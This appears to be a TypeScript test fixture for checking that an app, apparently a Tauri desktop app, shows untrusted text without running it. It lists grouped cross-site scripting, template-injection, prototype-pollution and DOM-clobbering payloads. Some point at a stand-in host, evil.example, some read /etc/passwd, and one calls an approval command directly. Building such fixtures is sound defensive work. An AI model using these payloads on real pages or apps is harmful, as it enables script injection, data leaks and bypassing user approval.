/**
 * Texts that would do something if a page took them for more than text. Each that runs sets `__ran`; the others would
 * ask somebody else, add an element, or change what every object has.
 */

const inScripts = [
  `<script>__ran=1</script>`,
  `<ScRiPt>__ran=1</sCrIpT>`,
  `<script type=module>globalThis.__ran=1</script>`,
  `<script src=data:text/javascript,__ran=1></script>`,
  `<script src="/stolen.js"></script>`,
  `<script type=importmap>{"imports":{"/assets/":"https://evil.example/"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/stolen"]}]}</script>`,
  `<script>__TAURI_INTERNALS__.invoke("ask_approval",{approval:"apr-1"});__ran=1</script>`,
  `<scr<script>ipt>__ran=1</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=__ran=1>">`,
];

const onEvents = [
  `<img src=x onerror=__ran=1>`,
  `<img src=x onerror="alert(__ran=1)">`,
  `<img/src=x/onerror=__ran=1//`,
  `<image src=x onerror=__ran=1>`,
  `<img srcset="x 1x" onerror=__ran=1>`,
  `<picture><source srcset=x><img onerror=__ran=1 src=x></picture>`,
  `<video src=x onerror=__ran=1></video>`,
  `<video><source onerror=__ran=1 src=x></video>`,
  `<audio src=x onerror=__ran=1></audio>`,
  `<body onload=__ran=1>`,
  `<body onpageshow=__ran=1>`,
  `<input autofocus onfocus=__ran=1>`,
  `<select autofocus onfocus=__ran=1></select>`,
  `<textarea autofocus onfocus=__ran=1></textarea>`,
  `<button autofocus onfocus=__ran=1>ok</button>`,
  `<p tabindex=1 autofocus onfocus=__ran=1>p</p>`,
  `<details open ontoggle=__ran=1>d</details>`,
  `<marquee onstart=__ran=1>m</marquee>`,
  `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=__ran=1>b</b>`,
  `<link rel=stylesheet href=x onerror=__ran=1>`,
  `<object data=x onerror=__ran=1></object>`,
  `<iframe onload=__ran=1></iframe>`,
  `<div onpointerover=__ran=1 style="position:fixed;inset:0">over</div>`,
  `<input type=image src=x onerror=__ran=1>`,
];

const addresses = [
  `javascript:__ran=1`,
  `JaVaScRiPt:__ran=1`,
  `java\tscript:__ran=1`,
  `\u0001javascript:__ran=1`,
  `javascript://evil.example/%0a__ran=1`,
  `javascript:/*--></title></style></textarea></script>*/__ran=1`,
  `vbscript:MsgBox("__ran")`,
  `data:text/html,<script>__ran=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3Jhbj0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__ran=1"/>`,
  `blob:https://evil.example/0`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `https://evil.example/"onmouseover="__ran=1`,
  `tauri://localhost/`,
  `mailto:a@b.example?bcc=x@evil.example&body=<script>__ran=1</script>`,
  `<a href=javascript:__ran=1 id=go>click</a><img src=x onerror=go.click()>`,
  `<a href="https://evil.example" target=_blank ping=https://evil.example/ping>click</a>`,
];

const pictures = [
  `<svg onload=__ran=1>`,
  `<svg><script>__ran=1</script></svg>`,
  `<svg><script href=data:text/javascript,__ran=1 /></svg>`,
  `<svg><animate onbegin=__ran=1 attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=__ran=1 attributeName=x to=y></svg>`,
  `<svg><a xlink:href=javascript:__ran=1><text y=20>x</text></a></svg>`,
  `<svg><image href=x onerror=__ran=1></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>top.__ran=1</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img title="</style><img src=x onerror=__ran=1>"></style></svg>`,
  `<math><mtext><img src=x onerror=__ran=1></mtext></math>`,
  `<math href=javascript:__ran=1>m</math>`,
];

const inTemplates = [
  `{{constructor.constructor("__ran=1")()}}`,
  `{{#with "s" as |t|}}{{lookup t.constructor "x"}}{{/with}}`,
  `{{ ''.__class__.__mro__ }}`,
  `{% include "/etc/passwd" %}`,
  `{% for x in range(9) %}{{ __ran }}{% endfor %}`,
  `{@html "<img src=x onerror=__ran=1>"}`,
  `{#if true}{(__ran = 1)}{/if}`,
  `\${__ran=1}`,
  "`${__ran=1}`",
  `<%= __ran=1 %>`,
  `[[\${T(java.lang.Runtime)}]]`,
  `%s%n%x%p`,
];

const breakingOut = [
  `"><img src=x onerror=__ran=1>`,
  `'><img src=x onerror=__ran=1>`,
  `"onfocus="__ran=1" autofocus="`,
  `' onpointerenter='__ran=1' x='`,
  `\` onload=__ran=1 x=\``,
  `" style="position:fixed;inset:0" onmouseover="__ran=1`,
  `--><img src=x onerror=__ran=1><!--`,
  `<!--><img src=x onerror=__ran=1>-->`,
  `--!><img src=x onerror=__ran=1>`,
  `<![CDATA[><img src=x onerror=__ran=1>]]>`,
  `]]><img src=x onerror=__ran=1>`,
  `</style><img src=x onerror=__ran=1>`,
  `</textarea><img src=x onerror=__ran=1>`,
  `</title><img src=x onerror=__ran=1>`,
  `</script><img src=x onerror=__ran=1>`,
  `</noscript><img src=x onerror=__ran=1>`,
  `</template><img src=x onerror=__ran=1>`,
  `</option></select><img src=x onerror=__ran=1>`,
  `</pre></main></body><img src=x onerror=__ran=1>`,
  `<?xml version="1.0"?><img src=x onerror=__ran=1>`,
  `';__ran=1;//`,
  `";__ran=1;//`,
  `\\";__ran=1;//`,
];

const styles = [
  `<style>*{background:url(https://evil.example/css)}</style>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `red;background:url(//evil.example/css)`,
  `expression(__ran=1)`,
  `<p style="width:expression(__ran=1)">p</p>`,
  `<p style="background:url(javascript:__ran=1)">p</p>`,
  `}body{display:none}`,
  `1fr;position:fixed;inset:0`,
];

const changing = [
  `<noscript><style></noscript><img src=x onerror=__ran=1>`,
  `<svg></p><style><a id="</style><img src=x onerror=__ran=1>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__ran=1>`,
  `<table><td><svg><desc><td></desc><img src=x onerror=__ran=1></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=__ran=1></annotation-xml></math>`,
  `<xmp><p title="</xmp><img src=x onerror=__ran=1>">`,
  `<listing>&lt;img src=x onerror=__ran=1&gt;</listing>`,
  `<template shadowrootmode=open><img src=x onerror=__ran=1></template>`,
];

const encoded = [
  `&lt;img src=x onerror=__ran=1&gt;`,
  `&#60;img src=x onerror=__ran=1&#62;`,
  `&#x3c;script&#x3e;__ran=1&#x3c;/script&#x3e;`,
  `%3Cimg%20src=x%20onerror=__ran=1%3E`,
  `\\u003cimg src=x onerror=__ran=1\\u003e`,
  `\\x3cscript\\x3e__ran=1\\x3c/script\\x3e`,
  `＜img src=x onerror=__ran=1＞`,
  `+ADw-script+AD4-__ran=1+ADw-/script+AD4-`,
  `<img src=x onerror=&#95;_ran&#61;1>`,
  `<img src=x onerror=\\u005f_ran=1>`,
  `<img src=x\u00a0onerror=__ran=1>`,
  `<\u200bscript>__ran=1</script>`,
  `\u202e<img src=x onerror=__ran=1>`,
  `\ufeff<script>__ran=1</script>`,
  `<img\u000csrc=x\u000conerror=__ran=1>`,
  `<img src=x onerror=__ran=1\u2028>`,
];

const names = [
  `__proto__`,
  `constructor`,
  `prototype`,
  `__proto__.polluted`,
  `constructor.prototype.polluted`,
  `__proto__[polluted]=yes`,
  `{"__proto__":{"polluted":"yes"}}`,
  `toString`,
  `hasOwnProperty`,
  `valueOf`,
  `__defineGetter__`,
];

const clobbering = [
  `<a id=host></a><a id=host name=invoke href=x></a>`,
  `<form id=__TAURI_INTERNALS__><input name=invoke></form>`,
  `<img name=getElementById>`,
  `<input form=app name=children>`,
  `<div id=app></div>`,
  `<iframe name=host srcdoc="<a id=invoke></a>"></iframe>`,
];

const pages = [
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<embed src="data:text/html,<script>__ran=1</script>">`,
  `<object data="data:text/html,<script>__ran=1</script>"></object>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:__ran=1">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<base href=https://evil.example/>`,
  `<link rel=prefetch href=/stolen>`,
  `<form action=https://evil.example/><button autofocus>send</button></form>`,
  `<frameset onload=__ran=1>`,
  `<portal src=https://evil.example/>`,
];

export const groups = {
  "script elements": inScripts,
  "event handlers": onEvents,
  addresses,
  "SVG and MathML": pictures,
  "braces of templates": inTemplates,
  "out of attributes, comments and elements": breakingOut,
  styles,
  "markup that changes when it is read again": changing,
  "other spellings": encoded,
  "names of what every object has": names,
  "names that hide the page's own": clobbering,
  "pages within the page": pages,
};

export const payloads: string[] = Object.values(groups).flat();
